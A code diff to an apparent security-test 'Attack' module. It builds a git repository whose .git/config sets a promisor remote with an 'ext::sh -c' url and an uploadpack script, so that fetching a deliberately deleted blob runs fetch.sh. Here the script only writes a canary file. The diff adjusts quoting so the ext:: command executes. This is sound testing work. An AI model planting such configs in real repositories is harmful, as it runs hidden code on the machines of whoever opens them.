@@ -1,7 +1,7 @@
 import { rmSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Attack } from '../attack.ts';
-import { folderOf, reference } from '../repository.ts';
+import { folderOf, reference, tellTale } from '../repository.ts';
 
 /** A partial clone: what is missing was promised by a remote, which is a program, and git would run it to fetch the rest. */
 export default {
@@ -14,10 +14,9 @@ export default {
     repository.commit(files);
     const id = repository.blob(files[`${folderOf('lab3')}/mon-leader-detector.ts`] ?? '');
     rmSync(join(repository.folder, '.git/objects', id.slice(0, 2), id.slice(2)));
-    const touch = `touch /tmp/${repository.token} /var/tmp/${repository.token}`;
-    repository.write('fetch.sh', `#!/bin/sh\n${touch}\n`, 0o755);
-    // Where the repository is when it is read, and where it is now.
-    const run = `sh -c '/src/fetch.sh; ${repository.folder}/fetch.sh'`;
+    repository.write('fetch.sh', `#!/bin/sh\n${tellTale(repository)}\n`, 0o755);
+    // Where the repository is when it is read, and where it is now. Of quotes `ext::` knows nothing, and of blanks it makes words.
+    const run = `/src/fetch.sh||${repository.folder}/fetch.sh`;
     repository.write(
       '.git/config',
       `[core]
@@ -26,8 +25,8 @@ export default {
 [extensions]
 	partialClone = origin
 [remote "origin"]
-	url = ext::${run}
-	uploadpack = ${run}
+	url = ext::sh -c ${run}
+	uploadpack = "${run}"
 	promisor = true
 	partialclonefilter = blob:none
 [protocol]
